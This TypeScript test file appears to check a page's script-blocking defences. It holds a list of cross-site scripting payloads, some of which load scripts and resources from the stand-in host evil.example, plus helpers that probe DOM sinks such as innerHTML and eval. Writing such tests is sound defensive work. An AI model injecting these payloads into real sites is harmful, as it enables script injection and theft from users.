/** What somebody would write into a page, where a page let them. Each one that succeeds says so by `hit(n)` or by asking `evil`. */
export const evil = "https://evil.example";

const hit = (number: number) => `(globalThis.hits??=new Set()).add(${number})`;
const quoted = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** As markup in the document that the server sends. `data-press` is what a person would press. */
const markup: readonly ((number: number) => string)[] = [
  (n) => `<script>${hit(n)}</script>`,
  (n) => `<script src="${evil}/${n}.js"></script>`,
  (n) => `<script type="module">${hit(n)}</script>`,
  (n) => `<img src="/nowhere.png" onerror="${hit(n)}">`,
  (n) => `<svg onload="${hit(n)}"></svg>`,
  (n) => `<svg><script>${hit(n)}</script></svg>`,
  (n) => `<details open ontoggle="${hit(n)}"><summary>x</summary></details>`,
  (n) => `<a data-press href="javascript:${hit(n)}">x</a>`,
  (n) => `<svg><a data-press xlink:href="javascript:${hit(n)}"><text>x</text></a></svg>`,
  (n) => `<button data-press onclick="${hit(n)}">x</button>`,
  (n) => `<iframe src="javascript:${quoted(`parent.eval('${hit(n)}')`)}"></iframe>`,
  (n) => `<iframe srcdoc="${quoted(`<script>parent.eval('${hit(n)}')</script>`)}"></iframe>`,
  (n) => `<iframe src="${evil}/${n}.html"></iframe>`,
  (n) => `<object data="${evil}/${n}.html"></object>`,
  (n) => `<embed src="${evil}/${n}.html">`,
  (n) => `<style>@import url("${evil}/${n}.css");</style>`,
  (n) => `<style>body{background:url("${evil}/${n}.png")}</style>`,
  (n) => `<p style="background:url('${evil}/${n}.png')">x</p>`,
  (n) => `<link rel="stylesheet" href="${evil}/${n}.css">`,
  (n) => `<link rel="prefetch" href="${evil}/${n}">`,
  (n) => `<img src="${evil}/${n}.png">`,
  (n) => `<video autoplay src="${evil}/${n}.mp4"></video>`,
  (n) => `<form data-press action="${evil}/${n}" target="_self"><button>x</button></form>`,
  (n) => `<form><button data-press formaction="${evil}/${n}">x</button></form>`,
  (n) => `<svg><image href="${evil}/${n}.png"></image></svg>`,
  (n) => `<audio src="${evil}/${n}.mp3" autoplay></audio>`,
  (n) => `<input autofocus onfocus="${hit(n)}">`,
  (n) => `<div><template shadowrootmode="open"><script>${hit(n)}</script></template></div>`,
  (n) => `<base href="${evil}/${n}/"><img src="based.png">`,
];

export const countOfMarkup = markup.length;

export const injected = markup.map((make, number) => make(number)).join("\n");

/** Presses everything that is there to be pressed and stays on the page. */
export function pressAll(): void {
  for (const element of document.querySelectorAll("[data-press]:not(form, [formaction])")) {
    element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }
}

/** Sends the forms; what leads away ends it. */
export function submitAll(): void {
  for (const element of document.querySelectorAll<HTMLElement>("[data-press]:is(form, [formaction])")) {
    if (element instanceof HTMLFormElement) element.requestSubmit();
    else element.click();
  }
}

/** Texts handed to the places of the DOM that would run them; answers which of them did not throw. */
export async function useSinks(): Promise<readonly string[]> {
  const text = "globalThis.sunk = true";
  const html = `<img src=x onerror="${text}">`;
  const element = (name: string) => document.body.appendChild(document.createElement(name));
  // What the types would refuse is what is tried here.
  const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
    .trustedTypes;
  const sinks: Readonly<Record<string, () => unknown>> = {
    innerHTML: () => (element("div").innerHTML = html),
    outerHTML: () => (element("div").outerHTML = html),
    insertAdjacentHTML: () => element("div").insertAdjacentHTML("beforeend", html),
    "document.write": () => document.write(html),
    "Range.createContextualFragment": () => document.createRange().createContextualFragment(html),
    "DOMParser.parseFromString": () => new DOMParser().parseFromString(html, "text/html"),
    "iframe.srcdoc": () => ((element("iframe") as HTMLIFrameElement).srcdoc = html),
    "script.text": () => ((element("script") as HTMLScriptElement).text = text),
    "script.src": () => ((element("script") as HTMLScriptElement).src = "https://evil.example/sink.js"),
    // oxlint-disable-next-line eslint/no-eval -- that it is refused is what is tried
    eval: () => globalThis.eval(text),
    Function: () => Reflect.construct(Function, [text]),
    "setTimeout of a text": () => Reflect.apply(setTimeout, globalThis, [text, 0]),
    "setAttribute of a handler": () => element("div").setAttribute("onclick", text),
    Worker: () => new Worker(URL.createObjectURL(new Blob([text]))),
    "a policy of another name": () => types.createPolicy("evil", {}),
  };
  const through: string[] = [];
  const attempt = (name: string, use: () => unknown) => {
    try {
      use();
      through.push(name);
    } catch {
      // Refused, as it should be.
    }
  };
  for (const [name, use] of Object.entries(sinks)) {
    // In a task of the page's own: what a debugger evaluates may evaluate texts.
    await new Promise<void>((done) => {
      setTimeout(() => {
        attempt(name, use);
        done();
      });
    });
  }
  await new Promise((done) => setTimeout(done, 200));
  if (Object.hasOwn(globalThis, "sunk")) through.push("ran");
  return through;
}
